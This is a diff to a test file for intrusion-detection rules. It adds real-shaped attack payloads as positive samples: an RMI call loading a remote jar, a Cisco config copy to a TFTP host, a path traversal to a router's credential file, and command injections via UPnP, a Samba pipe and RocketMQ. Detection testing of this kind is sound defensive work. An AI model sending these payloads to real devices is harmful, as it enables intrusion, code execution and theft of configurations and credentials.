@@ -23,6 +23,9 @@ const openSession = (algorithm: number) => {
   const fields = `${'\0'.repeat(8)}\x20\0\0\0\0\0\xa4\xa3\xa2\xa0`
   return `\x06\0\xff\x07\x06\x10${fields}${choice(0)}${choice(1)}${choice(2)}`
 }
+/** A call of a Java object by its number, with a text behind the name of a class. */
+const rmiCall = (text: string) =>
+  `P\xac\xed\0\x05w"${'\0'.repeat(34)}sr\0\x0borg.a.Loader${'\0'.repeat(12)}t\0${String.fromCharCode(text.length)}${text}`
 /** A binding of SNMP to the protocol by which a configuration is copied. */
 const snmpCopy = (value: string) =>
   `\x30\x15\x06\x10\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x02\x83\x3a${value}`
@@ -91,6 +94,12 @@ describe('rules for single products and families', () => {
     ['payload', '\0\0\0\x22\0\0\0\x05\0\x01\x02\0\0\0\x13Ljava/lang/Runtime;', 'remote_execution'],
     ['payload', '\xff\xfa\x27\0\0USER\x01-f root\xff\xf0', 'service_exploit'],
     ['payload', '\x82\xa3cmd\xaf_prep_auth_info', 'service_exploit'],
+    ['payload', rmiCall('http://192.0.2.7:8080/x.jar'), 'service_exploit'],
+    ['payload', `\0\0\0\x08copy nvram:startup-config tftp://192.0.2.7/a`, 'file_disclosure'],
+    ['payload', 'M2\x05\0\xff\x01//./..//////./../flash/rw/store/user.dat', 'device_exploit'],
+    ['payload', 'M-SEARCH * HTTP/1.1\r\nST:uuid:`reboot`\r\n', 'device_exploit'],
+    ['payload', wide('\\PIPE\\/srv/share/x.so'), 'service_exploit'],
+    ['payload', 'brokerConfig\nrocketmqHome=-c $@|sh . echo id;', 'service_exploit'],
     ['payload', '\0\0\0\0\0\x01\0\0stats\r\n', 'amplification_request'],
     [
       'http.header',
@@ -163,6 +172,9 @@ describe('rules for single products and families', () => {
     ['payload', `\0\0\0\x2a\0\0\0\0\0\0\0\x02\0\x01\x86\xa5\0\0\0\x03\0\0\0\x01`],
     ['payload', '\0\0\0\x22\0\0\0\x05\0\x01\x02\0\0\0\x12Lorg/example/Model;'],
     ['payload', '\xff\xfa\x27\0\0USER\x01frank\xff\xf0'],
+    ['payload', rmiCall('a name of a service')],
+    ['payload', 'M-SEARCH * HTTP/1.1\r\nST:uuid:2f402f80-da50-11e1-9b23\r\n'],
+    ['payload', wide('\\PIPE\\svcctl and /lib/x.so')],
     ['http.body', 'settings=a:2:{s:4:"size";i:3;s:4:"name";s:5:"large";}'],
     ['http.body', '__VIEWSTATE=%2FwEPDwUKMTY3NzI1MTk2MGRk'],
     ['http.uri', '/search?filter=(cn=anna*)(department=sales)'],
